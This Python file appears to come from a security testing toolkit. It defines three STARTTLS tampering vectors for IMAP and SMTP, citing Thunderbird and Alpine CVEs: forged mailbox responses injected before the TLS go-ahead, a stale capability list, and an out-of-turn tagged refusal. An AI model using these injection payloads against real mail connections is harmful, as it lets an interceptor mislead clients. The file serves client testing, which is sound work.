"""Tampering, T1 to T3: false things are said in clear text, and the client still believes them inside TLS.

RFC 3207 §4.2 tells an SMTP client to discard everything that it learned before; RFC 9051 §6.2.1 tells an IMAP client to
discard the capabilities, and no more.
"""

from typing import ClassVar

from labkit.attacks import speech
from labkit.attacks.actions import Answer, Replace
from labkit.attacks.vector import Answered, Line, Vector
from labkit.attacks.vectors.buffering import MARK
from labkit.dialects.writing import LATER


class ForgedMailbox(Vector):
    """Tells of a folder and of messages that do not exist, in front of the go-ahead."""

    id = "T1"
    protocols = ("IMAP",)
    source = "CVE-2021-29969 (Thunderbird), CVE-2021-38370 (Alpine)"
    marks = (MARK,)
    untagged: ClassVar = f'* 3 EXISTS\r\n* LIST (\\HasNoChildren) "/" "{MARK}"\r\n* FLAGS (\\Seen {MARK})\r\n'.encode()

    def on_line(self, line: Line) -> Answered:
        return Replace(self.untagged + line.data) if line.kind == "go-ahead" else None


class StaleCapabilities(Vector):
    """Adds a capability to the list in clear text: a client that does not ask again inside TLS still believes in it."""

    id = "T2"
    needs = ("capabilities",)
    source = "EAST, stale CAPABILITY"
    marks = (MARK,)

    def on_line(self, line: Line) -> Answered:
        offered = speech.capabilities(line)
        return None if offered is None or line.inside else Replace(speech.offering(line, (*offered, MARK)))


class OutOfTurn(Vector):
    """Answers STARTTLS with a refusal that bears the tag of an earlier command, which is none of the answers to it."""

    id = "T3"
    protocols = ("IMAP",)
    source = "EAST, reordered replies"

    def on_line(self, line: Line) -> Answered:
        before = speech.asked(line)
        if not speech.upgrades(line) or before is None:
            return None
        return Answer(speech.reply(before, LATER, "Not now"))
